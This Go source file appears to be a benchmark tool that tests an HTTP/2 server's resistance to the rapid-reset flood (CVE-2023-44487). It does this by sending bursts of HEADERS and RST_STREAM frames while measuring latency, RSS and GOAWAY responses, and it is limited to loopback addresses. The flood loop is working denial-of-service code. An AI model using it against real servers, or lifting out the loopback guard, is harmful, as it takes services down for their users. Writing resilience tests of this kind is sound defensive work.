// Command h2reset measures what a rapid-reset flood (CVE-2023-44487)
// costs an HTTP/2 server and its other clients: -c connections send
// HEADERS and RST_STREAM on new streams as fast as they can, for -d, each
// reconnecting as soon as the server ends it (as an attacker does), while
// one well-behaved client makes GET -path round trips, one at a time, on
// its own connection. It prints, as one JSON line, the flood's
// connections and the GOAWAYs they saw (by error code), and the other
// client's round trips (count, p50, p99, max) first for -base with no
// flood and then during the flood; with -pid, the server's RSS before and
// its peak during the flood (sampled every 10 ms from /proc/-pid/status).
//
//	h2reset -addr 127.0.0.1:8080 [-tls] [-c 4] [-d 20s] [-base 2s] [-pid 1234]
//
// A server that holds: GOAWAY ENHANCE_YOUR_CALM on (nearly) every flood
// connection, RSS flat, the other client's p99 near its no-flood one.
//
// The flood uses x/net/http2's Framer; the other client is x/net/http2's
// Transport (h2c with prior knowledge, or h2 over TLS with -tls, which
// skips certificate verification). Loopback only; it stops by itself.
package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/veloq/veloq/bench/internal/proc"
)

type config struct {
	addr   string
	tls    bool
	path   string
	conns  int
	dur    time.Duration
	base   time.Duration
	pid    int
	scheme string
}

// floodStats are what the flood's connections saw.
type floodStats struct {
	conns, pairs atomic.Int64
	mu           sync.Mutex
	goaways      map[string]int
}

func main() {
	var cfg config
	flag.StringVar(&cfg.addr, "addr", "127.0.0.1:8080", "server address (loopback)")
	flag.BoolVar(&cfg.tls, "tls", false, "h2 over TLS (ALPN) instead of h2c")
	flag.StringVar(&cfg.path, "path", "/", "the path of every request, flooded or not")
	flag.IntVar(&cfg.conns, "c", 4, "flooding connections at a time")
	flag.DurationVar(&cfg.dur, "d", 5*time.Second, "how long the flood lasts")
	flag.DurationVar(&cfg.base, "base", 2*time.Second, "how long the other client runs alone first")
	flag.IntVar(&cfg.pid, "pid", 0, "the server's process id, for its RSS (optional)")
	flag.Parse()
	if host, _, err := net.SplitHostPort(cfg.addr); err != nil || !net.ParseIP(host).IsLoopback() {
		log.Fatalf("h2reset: %q is not a loopback address", cfg.addr)
	}
	if cfg.conns < 1 || cfg.dur <= 0 || cfg.dur > 5*time.Minute {
		log.Fatal("h2reset: want -c >= 1 and 0 < -d <= 5m")
	}
	cfg.scheme = "http"
	if cfg.tls {
		cfg.scheme = "https"
	}
	out, err := run(cfg)
	if err != nil {
		log.Fatalf("h2reset: %v", err)
	}
	b, _ := json.Marshal(out)
	fmt.Println(string(b))
}

func run(cfg config) (map[string]any, error) {
	client, err := newClient(cfg)
	if err != nil {
		return nil, err
	}
	url := cfg.scheme + "://" + cfg.addr + cfg.path
	base, err := roundTrips(client, url, time.Now().Add(cfg.base))
	if err != nil {
		return nil, fmt.Errorf("before the flood: %w", err)
	}
	var rssBefore int64
	if cfg.pid != 0 {
		if rssBefore, err = proc.RSSKiB(cfg.pid); err != nil {
			return nil, err
		}
	}
	until := time.Now().Add(cfg.dur)
	fs := &floodStats{goaways: map[string]int{}}
	var wg sync.WaitGroup
	for range cfg.conns {
		wg.Go(func() {
			for time.Now().Before(until) {
				if err := floodConn(cfg, until, fs); err != nil {
					time.Sleep(time.Millisecond) // a refused dial: not a hot loop
				}
			}
		})
	}
	peak := make(chan int64, 1)
	go func() { peak <- peakRSS(cfg.pid, until) }()
	during, err := roundTrips(client, url, until)
	wg.Wait()
	rssPeak := <-peak
	if err != nil {
		return nil, fmt.Errorf("during the flood: %w", err)
	}
	fs.mu.Lock()
	defer fs.mu.Unlock()
	out := map[string]any{
		"flood_conns": fs.conns.Load(), "flood_pairs": fs.pairs.Load(), "goaways": fs.goaways,
		"rtt_alone": base, "rtt_flood": during,
	}
	if cfg.pid != 0 {
		out["rss_before_kib"], out["rss_peak_kib"] = rssBefore, rssPeak
	}
	return out, nil
}

// newClient is the well-behaved client: one HTTP/2 connection.
func newClient(cfg config) (*http.Client, error) {
	// net/http's own HTTP/2: h2 over TLS, or h2c with prior knowledge.
	var protos http.Protocols
	tr := &http.Transport{MaxConnsPerHost: 1}
	if cfg.tls {
		tr.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
		protos.SetHTTP2(true)
	} else {
		protos.SetUnencryptedHTTP2(true)
	}
	tr.Protocols = &protos
	return &http.Client{Transport: tr, Timeout: 10 * time.Second}, nil
}

// roundTrips makes requests one after the other until the deadline and
// sums up their durations in milliseconds.
func roundTrips(c *http.Client, url string, until time.Time) (map[string]float64, error) {
	var d []time.Duration
	for time.Now().Before(until) {
		start := time.Now()
		resp, err := c.Get(url)
		if err != nil {
			return nil, err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return nil, fmt.Errorf("GET %s: %s", url, resp.Status)
		}
		d = append(d, time.Since(start))
	}
	if len(d) == 0 {
		return nil, fmt.Errorf("no round trip")
	}
	slices.Sort(d)
	ms := func(x time.Duration) float64 { return float64(x.Microseconds()) / 1000 }
	return map[string]float64{"n": float64(len(d)), "p50_ms": ms(d[len(d)/2]), "p99_ms": ms(d[len(d)*99/100]), "max_ms": ms(d[len(d)-1])}, nil
}

// floodConn opens one connection and floods it until the server ends it
// (its GOAWAY, or the connection closing) or the flood is over.
func floodConn(cfg config, until time.Time, fs *floodStats) error {
	c, err := net.DialTimeout("tcp", cfg.addr, 5*time.Second)
	if err != nil {
		return err
	}
	if cfg.tls {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		_ = tc.SetDeadline(time.Now().Add(5 * time.Second))
		if err := tc.Handshake(); err != nil {
			c.Close()
			return err
		}
		_ = tc.SetDeadline(time.Time{})
		c = tc
	}
	defer c.Close()
	fs.conns.Add(1)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", cfg.scheme}, {":path", cfg.path}, {":authority", "localhost"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	// The Framer writes each frame with a Write of its own: buffer a
	// burst of them into one.
	var buf bytes.Buffer
	fr := http2.NewFramer(&buf, nil)
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	var ended atomic.Bool
	readerDone := make(chan struct{})
	go func() {
		defer close(readerDone)
		defer ended.Store(true)
		rf := http2.NewFramer(io.Discard, c)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				return
			}
			if ga, ok := f.(*http2.GoAwayFrame); ok {
				fs.mu.Lock()
				fs.goaways[ga.ErrCode.String()]++
				fs.mu.Unlock()
				return
			}
		}
	}()
	id := uint32(1)
	for !ended.Load() && time.Now().Before(until) && id < 1<<30 {
		for range 64 {
			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
			_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		if _, err := c.Write(buf.Bytes()); err != nil {
			break
		}
		buf.Reset()
		fs.pairs.Add(64)
	}
	c.Close()
	<-readerDone
	return nil
}

// peakRSS samples the server's RSS until the deadline and returns the
// largest, in KiB (0 without a pid).
func peakRSS(pid int, until time.Time) int64 {
	var peak int64
	for pid != 0 && time.Now().Before(until) {
		if kib, err := proc.RSSKiB(pid); err == nil {
			peak = max(peak, kib)
		}
		time.Sleep(10 * time.Millisecond)
	}
	return peak
}
